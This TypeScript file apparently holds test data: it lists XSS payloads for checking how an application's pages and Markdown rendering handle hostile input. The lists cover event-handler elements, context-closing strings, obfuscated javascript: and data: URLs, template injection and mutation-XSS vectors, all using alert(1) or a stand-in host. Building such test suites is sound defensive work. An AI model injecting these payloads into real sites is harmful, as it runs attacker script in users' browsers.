// What the lists are silent about: Markdown, the places of our own pages that words stand in, and what a
// browser makes of HTML that is read twice.

/** What runs, or fetches, or leads away, as soon as a browser takes it for HTML. */
const ELEMENTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x" /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>Send</button></form>',
  '<button form=x formaction=javascript:alert(1)>Send</button>',
  '<base href=https://fremmed.invalid/>',
  '<meta http-equiv=refresh content="0;url=https://fremmed.invalid/">',
  '<link rel=stylesheet href=https://fremmed.invalid/x.css>',
  '<style>@import "https://fremmed.invalid/x.css";</style>',
  '<img src=https://fremmed.invalid/x.png srcset="https://fremmed.invalid/y.png 2x">',
  '<script src=https://fremmed.invalid/x.js></script>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<b popover id=indhold onbeforetoggle=alert(1)>x</b><button popovertarget=indhold>x</button>',
  '<img name=body><form id=app><input name=attributes></form>',
];

/** What ends the place that words stand in, in our pages and in the JSON within them. */
const ENDS = [
  '">',
  "'>",
  '" ><p title="',
  '</script>',
  '</ScRiPt >',
  '</script/x>',
  '</textarea>',
  '</title>',
  '</style>',
  '</template>',
  '</noscript>',
  '</option></datalist>',
  '</button></details>',
  '</article></main>',
  '</svg>',
  '-->',
  '--!>',
  ']]>',
  '<!--',
  '<!--<script>',
  '<![CDATA[',
  '\u2028',
  '\u2029',
  '\u001a',
  '\ufdd0">',
];

/** Attributes for where a word stands between quotes, or before where they should be. */
const ATTRIBUTES = [
  '" onpointerenter="alert(1)" x="',
  "' onpointerenter='alert(1)' x='",
  ' onpointerenter=alert(1) autofocus onfocus=alert(1) ',
  '" autofocus tabindex=0 onfocus="alert(1)',
  "' style='animation-name:x' onanimationstart='alert(1)",
  '" data-act="traek" id="app" class="',
  '`onpointerenter=alert(1)`',
  '&quot; onpointerenter=&quot;alert(1)',
  '&#34; onpointerenter=alert(1) &#39;',
  '\\" onpointerenter=alert(1) \\',
];

/** For those who would read it as a program, or as a template, also as one of ours. */
const PROGRAMS = [
  '"};alert(1);//',
  "'};alert(1);//",
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '{}<img src=x onerror=alert(1)>{}',
  '[[post.reply]]<img src=x onerror=alert(1)>',
  ")]}',\n<script>alert(1)</script>",
  '__proto__[onerror]=alert(1)',
];

/** Addresses that run, as people have hidden them. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript&colon;alert(1)',
  'java&Tab;script&colon;alert(1)',
  'java&NewLine;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&#x3A;alert(1)',
  'javascript://fremmed.invalid/%0aalert(1)',
  'javascript%3Aalert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'https://fremmed.invalid/"onpointerenter="alert(1)',
  "https://fremmed.invalid/'><img src=x onerror=alert(1)>",
];

/** How an address stands in what people and staff write. */
const LINKS: ((address: string) => string)[] = [
  (address) => address,
  (address) => `<${address}>`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "x" onpointerenter=alert(1) "y")`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x][a]\n\n[a]: ${address} '"onpointerenter=alert(1)'`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' title="\`>" target=_top>x</a>`,
];

/** Markdown that becomes HTML in more than one step. */
const MARKDOWN = [
  '[x](https://fremmed.invalid "\\"><img src=x onerror=alert(1)>")',
  '![\\"><img src=x onerror=alert(1)>](/api/pictures/x)',
  '[<img src=x onerror=alert(1)>](/regler)',
  '`<img src=x onerror=alert(1)>`',
  '```"><img/onerror=alert(1)/src=x>\nx\n```',
  '| <img src=x onerror=alert(1)> | " |\n| :-: | --: |\n| ` | <svg/onload=alert(1)> |',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^"><img src=x onerror=alert(1)>]',
  '> - <img src=x\n> onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt; \\<img src=x onerror=alert(1)>',
  '## <img src=x onerror=alert(1)> {#x onpointerenter=alert(1)}',
  '<p\n\nonpointerenter=alert(1)>x</p>',
  '<img src="x\n\n" onerror=alert(1)>',
  '<https://fremmed.invalid/<img src=x onerror=alert(1)>>',
  '***<b onpointerenter=alert(1)>x***',
  'http://fremmed.invalid/<svg/onload=alert(1)> www.fremmed.invalid/"onpointerenter=alert(1)',
];

/** Elements whose inside is read differently when it is read again. */
const TWICE = [
  'svg',
  'math',
  'noscript',
  'template',
  'select',
  'table',
  'textarea',
  'title',
  'style',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
];

export const OWN = [
  ...ELEMENTS,
  ...ENDS,
  ...ENDS.flatMap((end) => [`${end}<script>alert(1)</script>`, `${end}<img src=x onerror=alert(1)>`]),
  ...ATTRIBUTES,
  ...PROGRAMS,
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...MARKDOWN,
  ...TWICE.flatMap((name) => [
    `<${name}><a title="</${name}><img src=x onerror=alert(1)>">x</a></${name}>`,
    `<svg><${name}><style><a title="</style><img src=x onerror=alert(1)>"></${name}></svg>`,
    `<math><mtext><${name}><mglyph><style></math><img src=x onerror=alert(1)></style></${name}>`,
  ]),
];
